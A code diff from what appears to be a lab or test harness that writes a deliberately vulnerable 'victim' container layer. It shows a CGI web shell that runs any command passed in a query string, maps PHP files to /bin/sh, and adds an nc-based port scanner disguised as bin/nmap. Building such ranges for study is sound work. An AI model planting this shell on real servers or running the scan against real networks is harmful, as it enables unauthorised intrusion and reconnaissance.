@@ -19,6 +19,16 @@ encoded=$(echo "$QUERY_STRING" | sed 's/^cmd=//; s/+/ /g')
 exec sh -c "$(httpd -d "$encoded")"
 `;
 
+/** busybox has no scanner; this one tries the same addresses and port as the real one, with nc, and says what it found. */
+const scannerScript = `#!/bin/sh
+i=0
+while [ $i -lt 256 ]; do
+  nc -w 1 ${addresses.kubernetes.replace(/\d+$/, "$i")} 443 </dev/null >/dev/null 2>&1 && echo "443/tcp open at number $i"
+  i=$((i+1))
+done
+echo "$i IP addresses scanned"
+`;
+
 const nginxConfiguration = `user www-data;
 pid /run/nginx.pid;
 worker_processes 1;
@@ -65,6 +75,7 @@ export function writeVictimLayer(layer: string, root: VictimRoot, secrets: Plant
   } else {
     put(layer, "var/www/html/ws.php", webShellCgi);
     put(layer, "etc/httpd.conf", "*.php:/bin/sh\n");
+    put(layer, "bin/nmap", scannerScript, 0o755);
   }
   // The attack downloads into the folder that the web server runs in.
   chownSync(join(layer, "var/www/html"), webUser, webUser);
@@ -96,8 +107,8 @@ function writeNames(layer: string, hostname: string): void {
   put(layer, "etc/resolv.conf", "");
 }
 
-function put(folder: string, path: string, text: string): void {
+function put(folder: string, path: string, text: string, mode = 0o644): void {
   const file = join(folder, path);
   mkdirSync(dirname(file), { recursive: true, mode: 0o755 });
-  writeFileSync(file, text, { mode: 0o644 });
+  writeFileSync(file, text, { mode });
 }
